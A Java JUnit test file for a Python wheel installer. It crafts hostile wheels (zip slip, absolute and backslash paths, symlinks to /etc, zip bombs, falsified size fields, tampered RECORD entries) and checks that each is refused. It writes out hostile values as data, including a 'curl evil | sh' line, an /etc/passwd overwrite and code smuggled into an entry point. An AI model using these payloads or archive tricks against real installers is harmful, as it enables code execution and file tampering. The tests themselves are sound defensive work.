package dev.kiln.installer.wheel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.kiln.events.Digest;
import dev.kiln.installer.Codes;
import dev.kiln.installer.InstallerException;
import dev.kiln.installer.TargetEnvironment;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile and broken wheels. Each test fails if the attack works: the wheel must be refused with
 * its code, no fragment may be produced, and nothing may change outside the scratch directory
 * (checked after every test on the whole temporary tree, and at the paths the attacks aim at).
 */
class WheelAttackTest {
  private static final TargetEnvironment TARGET = TargetEnvironment.linuxX86_64("3.12.7", "2.36");

  @TempDir Path work;
  private Path wheels;
  private Path scratch;
  private Map<String, String> before;
  private final String marker = "kiln-evil-" + UUID.randomUUID();

  @BeforeEach
  void layout() throws IOException {
    wheels = Files.createDirectories(work.resolve("wheels"));
    // Deep enough that '../../' from the scratch directory still lands inside work/.
    scratch = Files.createDirectories(work.resolve("a/b/scratch"));
  }

  @AfterEach
  void nothingEscapedAndNoFragment() throws IOException {
    Map<String, String> after = Trees.snapshot(work);
    after.keySet().removeIf(path -> path.startsWith("a/b/scratch/") || path.equals("a/b/scratch"));
    before.keySet().removeIf(path -> path.startsWith("a/b/scratch/") || path.equals("a/b/scratch"));
    assertThat(after).as("the tree outside the scratch directory").isEqualTo(before);
    try (var left = Files.list(scratch)) {
      assertThat(left.toList()).as("what the failed unpack left in scratch").isEmpty();
    }
    assertThat(Path.of("/tmp", marker)).doesNotExist();
    assertThat(Path.of(marker)).doesNotExist();
  }

  @Test
  void zipSlipWithDotDotIsRefused() throws Exception {
    Path wheel =
        wheel(RawWheel.of("demo", "1.0").file("../../" + marker, "pwned").file("demo.py", "x=1"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "../../" + marker, "'..'");
  }

  @Test
  void absolutePathIsRefused() throws Exception {
    Path wheel = wheel(RawWheel.of("demo", "1.0").file("/tmp/" + marker, "pwned"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "/tmp/" + marker, "absolute path");
  }

  @Test
  void symlinkEntryIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .symlink("demo/escape", "/etc")
                .file("demo/__init__.py", "x=1"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "demo/escape", "symbolic link");
  }

  @Test
  void dataDirectoryDotDotEscapeIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo-1.0.data/../../" + marker, "pwned")
                .file("demo-1.0.data/purelib/../../../../" + marker, "pwned"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "demo-1.0.data/../../" + marker, "'..'");
  }

  @Test
  void tamperedFileFailsTheRecordCheck() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/__init__.py", "import os; os.system('curl evil | sh')\n")
                .recordedAs("demo/__init__.py", "VERSION = '1.0'\n"));

    assertRefused(wheel, Codes.RECORD_MISMATCH, "demo/__init__.py", "RECORD says");
  }

  @Test
  void fileNotListedInRecordIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/__init__.py", "x=1")
                .file("demo/smuggled.py", "import evil")
                .unrecorded("demo/smuggled.py"));

    assertRefused(wheel, Codes.RECORD_MISMATCH, "demo/smuggled.py", "not listed");
  }

  @Test
  void weakRecordHashIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0").file("demo/__init__.py", "x=1").recordHashAlgorithm("md5"));

    assertRefused(wheel, Codes.RECORD_MISMATCH, "'md5'");
  }

  @Test
  void wheelNotMatchingTheExpectedSha256IsRefused() throws Exception {
    Path wheel = wheel(RawWheel.of("demo", "1.0").file("demo/__init__.py", "x=1"));
    Digest actual = Digest.compute(wheel);
    Digest expected = Digest.compute("another file".getBytes(StandardCharsets.UTF_8));
    before = Trees.snapshot(work);

    assertThatThrownBy(() -> unpacker().unpack(wheel, expected, scratch))
        .isInstanceOfSatisfying(
            InstallerException.class, e -> assertThat(e.code()).isEqualTo(Codes.HASH_MISMATCH))
        .hasMessageContaining("demo-1.0-py3-none-any.whl")
        .hasMessageContaining(actual.toString())
        .hasMessageContaining(expected.toString());
  }

  @Test
  void zipBombIsRefusedBeforeInflating() throws Exception {
    // 64 MiB of zeros deflate to about 64 KiB: a ratio of ~1000:1.
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/__init__.py", "x=1")
                .file("demo/zeros.bin", new byte[64 << 20]));

    assertRefused(wheel, Codes.DECOMPRESSION_LIMIT, "demo/zeros.bin", "zip bomb");
  }

  @Test
  void zipBombThatUnderstatesItsSizeIsStoppedWhileInflating() throws Exception {
    String bomb = "demo/zeros.bin";
    byte[] zip =
        RawWheel.of("demo", "1.0")
            .file("demo/__init__.py", "x=1")
            .file(bomb, new byte[64 << 20])
            .recordedAs(bomb, "0".repeat(1000))
            .bytes();
    ZipBytes.setCentralField(zip, bomb, ZipBytes.UNCOMPRESSED_SIZE, 1000);
    Path wheel = wheels.resolve("demo-1.0-py3-none-any.whl");
    Files.write(wheel, zip);

    assertRefused(wheel, Codes.DECOMPRESSION_LIMIT, bomb, "lies about its size");
  }

  @Test
  void aZipBombWheelFailsAndLeavesNothing() throws Exception {
    // The bomb: about 1 MB on disk, 1 GiB unpacked, made of 1,024 members of exactly
    // 1 MiB each, so that no single member is over the per-file ratio floor.
    byte[] mebibyte = new byte[1 << 20];
    RawWheel bomb = RawWheel.of("demo", "1.0").file("demo/__init__.py", "x=1");
    for (int i = 0; i < 1024; i++) {
      bomb.file("demo/zeros" + i + ".bin", mebibyte);
    }
    Path wheel = wheel(bomb);
    assertThat(Files.size(wheel)).isLessThan(2L << 20);

    assertRefused(
        wheel,
        Codes.DECOMPRESSION_LIMIT,
        "1073741824 bytes per wheel",
        "200:1",
        "a zip bomb made of many small members");
  }

  @Test
  void aWheelThatLiesAboutItsSizesIsStopped() throws Exception {
    // Every member declares 1,000 bytes in the central directory (and RECORD agrees), so the
    // declared total looks harmless; each really inflates to 1 MiB.
    RawWheel liar = RawWheel.of("demo", "1.0").file("demo/__init__.py", "x=1");
    for (int i = 0; i < 16; i++) {
      liar.file("demo/zeros" + i + ".bin", new byte[1 << 20])
          .recordedAs("demo/zeros" + i + ".bin", "0".repeat(1000));
    }
    byte[] zip = liar.bytes();
    for (int i = 0; i < 16; i++) {
      ZipBytes.setCentralField(zip, "demo/zeros" + i + ".bin", ZipBytes.UNCOMPRESSED_SIZE, 1000);
    }
    Path wheel = wheels.resolve("demo-1.0-py3-none-any.whl");
    Files.write(wheel, zip);

    assertRefused(
        wheel, Codes.DECOMPRESSION_LIMIT, "demo/zeros", "lies about its size", "bytes per wheel");
  }

  @Test
  void entriesSharingCompressedDataAreRefused() throws Exception {
    byte[] zip =
        RawWheel.of("demo", "1.0").file("demo/a.py", "x=1\n").file("demo/b.py", "x=1\n").bytes();
    long first = ZipBytes.centralField(zip, "demo/a.py", ZipBytes.LOCAL_HEADER_OFFSET);
    ZipBytes.setCentralField(zip, "demo/b.py", ZipBytes.LOCAL_HEADER_OFFSET, first);
    Path wheel = wheels.resolve("demo-1.0-py3-none-any.whl");
    Files.write(wheel, zip);

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "overlaps the compressed data");
  }

  @Test
  void fileOverTheSizeLimitIsRefused() throws Exception {
    Path wheel = wheel(RawWheel.of("demo", "1.0").file("demo/big.bin", new byte[4096]));
    WheelFragments small =
        new WheelFragments(TARGET, new WheelFragments.Limits(1024, 1 << 20, 200, 1000));
    before = Trees.snapshot(work);

    assertThatThrownBy(() -> small.unpack(wheel, Digest.compute(wheel), scratch))
        .isInstanceOfSatisfying(
            InstallerException.class,
            e -> assertThat(e.code()).isEqualTo(Codes.DECOMPRESSION_LIMIT))
        .hasMessageContaining("demo/big.bin")
        .hasMessageContaining("more than the 1024 allowed per file");
  }

  @Test
  void wheelOverTheTotalSizeLimitIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/a.bin", new byte[3000])
                .file("demo/b.bin", new byte[3000]));
    WheelFragments small =
        new WheelFragments(TARGET, new WheelFragments.Limits(4096, 5000, 200, 1000));
    before = Trees.snapshot(work);

    assertThatThrownBy(() -> small.unpack(wheel, Digest.compute(wheel), scratch))
        .isInstanceOfSatisfying(
            InstallerException.class,
            e -> assertThat(e.code()).isEqualTo(Codes.DECOMPRESSION_LIMIT))
        .hasMessageContaining("more than the 5000 a wheel may");
  }

  @Test
  void distInfoNotNamingTheWheelIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .distInfo("requests-2.31.0.dist-info")
                .file("demo/__init__.py", "x=1"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "requests-2.31.0.dist-info", "demo 1.0");
  }

  @Test
  void distInfoOfAnotherVersionIsRefused() throws Exception {
    Path wheel =
        wheel(RawWheel.of("demo", "1.0").distInfo("demo-0.9.dist-info").file("demo.py", "x=1"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "demo-0.9.dist-info");
  }

  @Test
  void secondDistInfoDirectoryIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo.py", "x=1")
                .file("requests-2.31.0.dist-info/RECORD", ""));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "several .dist-info");
  }

  @Test
  void dataSchemeWritingIntoAnotherDistInfoIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo.py", "x=1")
                .file("demo-1.0.data/purelib/requests-2.31.0.dist-info/METADATA", "Name: evil"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "another distribution");
  }

  @Test
  void foreignDataDirectoryIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo.py", "x=1")
                .file("requests-2.31.0.data/purelib/requests/__init__.py", "evil"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "requests-2.31.0.data");
  }

  @Test
  void unknownDataSchemeIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo.py", "x=1")
                .file("demo-1.0.data/etc/passwd", "root::0:0::/:/bin/sh"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "demo-1.0.data/etc/passwd", "unknown scheme 'etc'");
  }

  @Test
  void backslashPathIsRefused() throws Exception {
    // With a '/' in it, no zip library rewrites the backslashes.
    Path wheel = wheel(RawWheel.of("demo", "1.0").file("demo/..\\..\\..\\" + marker, "pwned"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "backslash");
  }

  @Test
  void driveLetterIsRefused() throws Exception {
    Path wheel = wheel(RawWheel.of("demo", "1.0").file("C:/Windows/" + marker, "pwned"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "drive letter");
  }

  @Test
  void duplicateEntryIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/__init__.py", "x=1")
                .file("demo/__init__.py", "import evil"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "demo/__init__.py", "appears twice");
  }

  @Test
  void twoEntriesInstallingToOnePathAreRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/__init__.py", "x=1")
                .file("demo-1.0.data/purelib/demo/__init__.py", "import evil"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "installs to demo/__init__.py");
  }

  @Test
  void dataSchemeOverwritingTheInstalledRecordIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo.py", "x=1")
                .file("demo-1.0.data/purelib/demo-1.0.dist-info/RECORD", "demo.py,,\n"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "only the installer may write");
  }

  @Test
  void fileAndDirectoryAtOnePathAreRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/__init__.py", "x=1")
                .file("demo-1.0.data/purelib/demo", "a file where a package is"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "as a file and as a directory");
  }

  @Test
  void consoleScriptNamedLikeAPathIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/__init__.py", "def main(): pass\n")
                .file(
                    "demo-1.0.dist-info/entry_points.txt",
                    "[console_scripts]\n../../" + marker + " = demo:main\n"));

    assertRefused(wheel, Codes.UNSAFE_WHEEL, "not a plain file name");
  }

  @Test
  void consoleScriptWithCodeInItsTargetIsRefused() throws Exception {
    Path wheel =
        wheel(
            RawWheel.of("demo", "1.0")
                .file("demo/__init__.py", "def main(): pass\n")
                .file(
                    "demo-1.0.dist-info/entry_points.txt",
                    "[console_scripts]\ndemo = os; os.system('id') #:main\n"));

    assertRefused(wheel, Codes.INVALID_WHEEL, "is not 'name = module:function'");
  }

  private Path wheel(RawWheel wheel) {
    return wheel.writeTo(wheels);
  }

  private WheelFragments unpacker() {
    return new WheelFragments(TARGET);
  }

  private void assertRefused(Path wheel, String code, String... messageParts) throws Exception {
    before = Trees.snapshot(work);
    assertThatThrownBy(() -> unpacker().unpack(wheel, Digest.compute(wheel), scratch))
        .isInstanceOfSatisfying(InstallerException.class, e -> assertThat(e.code()).isEqualTo(code))
        .hasMessageContaining(wheel.getFileName().toString())
        .satisfies(
            e -> {
              for (String part : messageParts) {
                assertThat(e.getMessage()).contains(part);
              }
            });
  }
}
